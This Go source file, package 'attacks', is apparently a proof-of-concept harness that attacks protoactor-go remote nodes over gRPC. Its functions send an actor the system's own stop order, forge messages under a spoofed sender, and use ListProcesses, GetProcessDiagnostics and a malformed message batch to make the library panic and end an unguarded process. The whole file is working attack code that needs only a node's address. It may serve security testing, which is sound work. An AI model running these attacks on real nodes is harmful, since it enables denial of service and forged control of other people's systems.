package attacks

import (
	"context"
	"errors"
	"fmt"

	"github.com/asynkron/protoactor-go/actor"
	"github.com/asynkron/protoactor-go/remote"
	"google.golang.org/grpc"
	"google.golang.org/grpc/connectivity"
	"google.golang.org/grpc/credentials"
	"google.golang.org/protobuf/proto"
)

// Target is what is attacked, and as whom.
type Target struct {
	Address string // host:port of the node
	// Credentials are what the attacker shows; insecure ones for an anonymous peer.
	Credentials credentials.TransportCredentials
	// Actor is the id of an actor on the node.
	Actor string
	// Message is what is forged; its type must be one that the node knows.
	Message proto.Message
}

// Result is what an attack came to.
type Result struct {
	// In: the node let the peer in and spoke with it. What that did is seen at
	// the node.
	In bool
	// Answered: the node handled what was sent before the connection ended.
	Answered bool
	// Err is how the node refused, or what ended the connection.
	Err error
}

// Attack is one way to do harm.
type Attack struct {
	Name string
	// Deadly: an unguarded process ends of it.
	Deadly bool
	Run    func(ctx context.Context, t Target) Result
}

// All are the attacks that need nothing but an address.
func All() []Attack {
	return []Attack{
		{"stop an actor", false, Stop},
		{"forge a message", false, Forge},
		{"list processes", true, ListProcesses},
		{"diagnose a process", true, Diagnose},
		{"malformed batch", true, Malformed},
	}
}

// Stop sends the actor the system's own order to stop.
func Stop(ctx context.Context, t Target) Result { return send(ctx, t, &actor.Stop{}, nil) }

// Forge sends the actor t.Message as if the actor itself had.
func Forge(ctx context.Context, t Target) Result {
	return send(ctx, t, t.Message, actor.NewPID(t.Address, t.Actor))
}

// ListProcesses asks which actors there are, at which the library panics.
func ListProcesses(ctx context.Context, t Target) Result {
	return call(ctx, t, func(c remote.RemotingClient) error {
		_, err := c.ListProcesses(ctx, &remote.ListProcessesRequest{})
		return err
	})
}

// Diagnose asks for the insides of the actor. The library panics here, too.
func Diagnose(ctx context.Context, t Target) Result {
	return call(ctx, t, func(c remote.RemotingClient) error {
		_, err := c.GetProcessDiagnostics(ctx, &remote.GetProcessDiagnosticsRequest{Pid: actor.NewPID(t.Address, t.Actor)})
		return err
	})
}

// Malformed sends a batch whose message is of a type that the batch does not
// name, which the library looks up without asking.
func Malformed(ctx context.Context, t Target) Result {
	return stream(ctx, t, &remote.MessageBatch{
		Targets:   []string{t.Actor},
		Envelopes: []*remote.MessageEnvelope{{TypeId: 7}},
	})
}

func send(ctx context.Context, t Target, msg proto.Message, sender *actor.PID) Result {
	data, err := proto.Marshal(msg)
	if err != nil {
		return Result{Err: fmt.Errorf("encode the message: %w", err)}
	}
	b := &remote.MessageBatch{
		TypeNames: []string{string(proto.MessageName(msg))},
		Targets:   []string{t.Actor},
		Envelopes: []*remote.MessageEnvelope{{MessageData: data}},
	}
	if sender != nil {
		b.Senders = []*actor.PID{sender}
		b.Envelopes[0].Sender = 1
	}
	return stream(ctx, t, b)
}

// stream sends the batch, and then says hello: a node handles what comes on a
// stream in turn, so that its answer tells that the batch has been.
func stream(ctx context.Context, t Target, b *remote.MessageBatch) Result {
	return call(ctx, t, func(c remote.RemotingClient) error {
		s, err := c.Receive(ctx)
		if err != nil {
			return err
		}
		hello := &remote.ConnectRequest{ConnectionType: &remote.ConnectRequest_ServerConnection{
			ServerConnection: &remote.ServerConnection{MemberId: "somebody", Address: "127.0.0.1:1"},
		}}
		for _, m := range []*remote.RemoteMessage{
			{MessageType: &remote.RemoteMessage_MessageBatch{MessageBatch: b}},
			{MessageType: &remote.RemoteMessage_ConnectRequest{ConnectRequest: hello}},
		} {
			if s.Send(m) != nil {
				break // the stream has ended; why is told by reading
			}
		}
		_, err = s.Recv()
		return err
	})
}

// call connects and does one thing.
func call(ctx context.Context, t Target, do func(remote.RemotingClient) error) (r Result) {
	conn, err := grpc.NewClient(t.Address, grpc.WithTransportCredentials(t.Credentials))
	if err != nil {
		return Result{Err: err}
	}
	defer func() { r.Err = errors.Join(r.Err, conn.Close()) }()
	r.In = connects(ctx, conn)
	r.Err = do(remote.NewRemotingClient(conn))
	r.Answered = r.Err == nil
	return r
}

// connects tells whether the other side speaks with us: its certificate and
// ours are accepted, and its first frame has come.
func connects(ctx context.Context, conn *grpc.ClientConn) bool {
	conn.Connect()
	for {
		switch s := conn.GetState(); s {
		case connectivity.Ready:
			return true
		case connectivity.TransientFailure, connectivity.Shutdown:
			return false
		default:
			if !conn.WaitForStateChange(ctx, s) {
				return false
			}
		}
	}
}
